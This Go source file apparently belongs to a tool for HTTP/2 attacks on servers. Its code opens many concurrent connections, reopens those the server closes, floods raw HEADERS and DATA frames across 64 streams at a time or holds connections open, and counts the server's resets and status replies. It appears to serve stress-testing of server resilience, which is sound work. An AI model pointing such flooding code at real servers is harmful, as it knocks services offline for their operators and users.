package hostile

import (
	"context"
	"errors"
	"fmt"
	"net"
	"slices"
	"sync"

	"golang.org/x/net/http2"
)

// errKeepOpen is returned by a step that has sent everything. The attack then keeps the connection
// open.
var errKeepOpen = errors.New("keep the connection open")

// Attack is a way to harm a server.
type Attack struct {
	Name string
	// options configures the connections.
	options ConnOptions
	// begin sends the first frames and returns a step, which is called repeatedly.
	begin func(*Conn) (step func() error, err error)
}

// Target is the server to attack, with a request that it answers.
type Target struct {
	// Addr is the server's host:port.
	Addr string
	// Domain, Key and Value are the contents of requests that the server answers.
	Domain, Key, Value string
	// Dial connects to Addr. Nil uses TCP.
	Dial func(ctx context.Context, addr string) (net.Conn, error) `json:"-"`
}

// Outcome counts the sent frames and the server's reactions.
type Outcome struct {
	// Connections is the number of opened connections, Ended of those that the server closed.
	Connections, Ended int
	// Frames is the number of frames sent on all connections.
	Frames int64

	Replies
}

// Find returns the attack with the given name, or an error that lists all names.
func Find(name string, t Target) (Attack, error) {
	all := Attacks(t)
	i := slices.IndexFunc(all, func(a Attack) bool { return a.Name == name })
	if i < 0 {
		names := make([]string, 0, len(all))
		for _, a := range all {
			names = append(names, a.Name)
		}
		return Attack{}, fmt.Errorf("unknown attack %q, want one of %q", name, names)
	}
	return all[i], nil
}

// Run attacks over the given number of concurrent connections until ctx ends. A connection that the
// server closed is opened again. Run returns an error only if the server does not accept a
// connection.
func (a Attack) Run(ctx context.Context, t Target, connections int) (Outcome, error) {
	var (
		mu    sync.Mutex
		all   Outcome
		errs  []error
		group sync.WaitGroup
	)
	all.Resets = map[string]int{}
	all.Statuses = map[string]int{}
	for range connections {
		group.Go(func() {
			for ctx.Err() == nil {
				c, ended, err := a.connection(ctx, t)
				mu.Lock()
				if err != nil {
					// At the end a dial may time out shortly before ctx.
					if timeout, ok := errors.AsType[net.Error](err); !ok || !timeout.Timeout() {
						errs = append(errs, err)
					}
					mu.Unlock()
					return
				}
				all.Connections++
				if ended {
					all.Ended++
				}
				all.Frames += c.Sent()
				all.add(c.Replies())
				mu.Unlock()
			}
		})
	}
	group.Wait()
	return all, errors.Join(errs...)
}

// connection attacks over one connection. ended is true if the server closed it.
func (a Attack) connection(ctx context.Context, t Target) (c *Conn, ended bool, err error) {
	dial := t.Dial
	if dial == nil {
		dial = dialTCP
	}
	raw, err := dial(ctx, t.Addr)
	if err != nil {
		return nil, false, err
	}
	if c, err = newConn(raw, a.options); err != nil {
		return nil, false, err
	}
	defer func() {
		_ = c.Close() // may already be closed
		if !a.options.NeverRead {
			<-c.Ended()
		}
	}()
	defer context.AfterFunc(ctx, func() { _ = c.Close() })() // a write may block
	step, err := a.begin(c)
	for err == nil && ctx.Err() == nil {
		err = step()
	}
	if errors.Is(err, errKeepOpen) {
		err = c.Flush()
	}
	if ctx.Err() != nil {
		return c, false, nil
	}
	switch {
	case a.options.NeverRead && err != nil:
		return c, true, nil // without reading, the reason is unknown
	case a.options.NeverRead:
		<-ctx.Done()
		return c, false, nil
	}
	select {
	case <-c.Ended(): // read the server's last frames
		return c, ctx.Err() == nil, nil
	case <-ctx.Done():
		return c, false, nil
	}
}

// repeatBytes returns a step that sends the same bytes, which contain the given number of frames.
func (c *Conn) repeatBytes(frames int, bytes []byte) func() error {
	return func() error { return c.Send(frames, bytes) }
}

// callsOf returns a step that opens 64 streams. add appends the frames of a stream.
func (c *Conn) callsOf(stream uint32, frames int, add func(b []byte, stream uint32) []byte) func() error {
	var b []byte
	return func() error {
		b = b[:0]
		for range 64 {
			b = add(b, stream)
			stream += 2
		}
		return c.Send(64*frames, b)
	}
}

// repeatFrame returns frame n times.
func repeatFrame(n int, frame []byte) []byte {
	return slices.Concat(slices.Repeat([][]byte{frame}, n)...)
}

// openStream returns an add function that appends the HEADERS of a call.
func openStream(headers []byte) func(b []byte, stream uint32) []byte {
	return func(b []byte, stream uint32) []byte {
		return appendFrame(b, http2.FrameHeaders, http2.FlagHeadersEndHeaders, stream, headers)
	}
}

func appendCall(b []byte, stream uint32, headers, message []byte) []byte {
	b = appendFrame(b, http2.FrameHeaders, http2.FlagHeadersEndHeaders, stream, headers)
	return appendFrame(b, http2.FrameData, http2.FlagDataEndStream, stream, message)
}
